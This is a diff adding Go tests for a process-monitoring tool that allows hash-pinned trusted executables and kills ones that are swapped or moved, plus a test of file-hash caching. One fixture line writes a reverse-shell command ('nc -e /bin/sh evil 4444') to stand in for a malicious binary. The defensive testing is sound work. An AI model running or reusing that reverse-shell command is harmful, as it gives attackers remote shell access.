@@ -0,0 +1,67 @@
+package main
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"io/ioutil"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestTrustedExe(t *testing.T) {
+	exe := filepath.Join(t.TempDir(), "puppet")
+	content := []byte("#!/bin/sh\necho totally puppet\n")
+	if err := ioutil.WriteFile(exe, content, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(content)
+
+	config := Config{
+		Bonkable:    []string{"software_mgmt"},
+		TrustedExes: []TrustedExe{{Path: exe, SHA256: hex.EncodeToString(sum[:])}},
+	}
+	event := AuditMessageBonk{Key: "software_mgmt", AuidHumanReadable: "bob", Exe: exe, Pid: testPid}
+
+	killed, _ := setupReceive(t, "bonk", config)
+	if msg, _ := bonkProc(event, ""); !strings.Contains(msg, "[ALLOW-EXE]") || len(*killed) != 0 {
+		t.Errorf("pinned binary got %q, killed=%v", msg, *killed)
+	}
+
+	// same path, different binary
+	if err := ioutil.WriteFile(exe, []byte("#!/bin/sh\nnc -e /bin/sh evil 4444\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if msg, _ := bonkProc(event, ""); !strings.Contains(msg, "[BONK]") || len(*killed) != 1 {
+		t.Errorf("swapped binary got %q, killed=%v", msg, *killed)
+	}
+
+	// same binary, different path
+	event.Exe = "/tmp/puppet"
+	if msg, _ := bonkProc(event, ""); !strings.Contains(msg, "[BONK]") {
+		t.Errorf("copied binary got %q", msg)
+	}
+}
+
+func TestHashFileCache(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "bin")
+	if err := ioutil.WriteFile(file, []byte("one"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	first, err := hashFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cached := len(exeHashes.sums)
+	if again, _ := hashFile(file); again != first || len(exeHashes.sums) != cached {
+		t.Error("unchanged file was hashed again")
+	}
+
+	if err := ioutil.WriteFile(file, []byte("two!"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if changed, _ := hashFile(file); changed == first {
+		t.Error("changed file kept its old hash")
+	}
+}